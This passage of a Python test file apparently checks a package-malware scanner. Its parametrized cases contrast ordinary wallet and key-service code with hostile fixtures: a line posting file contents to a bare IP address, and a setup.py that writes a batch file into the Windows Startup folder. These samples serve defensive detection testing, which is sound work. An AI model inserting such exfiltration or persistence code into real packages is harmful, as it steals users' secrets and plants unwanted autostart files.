        "            _post('http://198.51.100.7:3000/r', {'j': f.read()})\n"
    ),
}
CALLER_ORDINARY = {
    "a wallet signs with the key and sends the signed transaction": (
        "import requests\n\ndef send(tx, private_key, rpc='https://rpc.example.org'):\n"
        "    signed = sign_transaction(tx, private_key)\n"
        "    return requests.post('https://rpc.example.org', json={'tx': signed.hex()})\n"
    ),
    "a key handed to the key service the caller configured": (
        "class Kmd:\n    def import_key(self, handle, private_key):\n"
        "        query = {'wallet_handle_token': handle, 'private_key': private_key}\n"
        "        return self.kmd_request('POST', '/key/import', data=query)\n"
    ),
    "a key sent to where the caller says": (
        "import requests\n\ndef upload(url, private_key):\n"
        "    return requests.put(url, data=private_key)\n"
    ),
}


@pytest.mark.parametrize("body", CALLER_EXFIL.values(), ids=CALLER_EXFIL.keys())
def test_a_function_sending_its_callers_secrets_away_is_malicious(body: str) -> None:
    files = {"walletlib-0.1/walletlib/core.py": body}
    assert SignalKind.CALLER_DATA_EXFIL in kinds(files)
    assert verdict(files) is Verdict.MALICIOUS


@pytest.mark.parametrize("body", CALLER_ORDINARY.values(), ids=CALLER_ORDINARY.keys())
def test_wallet_and_key_service_code_is_not_caller_exfiltration(body: str) -> None:
    assert SignalKind.CALLER_DATA_EXFIL not in kinds({"walletlib-0.1/walletlib/core.py": body})


def test_a_startup_folder_joined_from_its_parts_is_persistence() -> None:
    hook = ("import os\nfrom setuptools import setup\n"
            "folder = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu',"
            " 'Programs', 'Startup')\nopen(os.path.join(folder, 'u.bat'), 'w').write('x')\n"
            "setup(name='x')\n")
    assert SignalKind.PERSISTENCE in kinds({"x-1.0/setup.py": hook})
    assert verdict({"x-1.0/setup.py": hook}) is Verdict.MALICIOUS
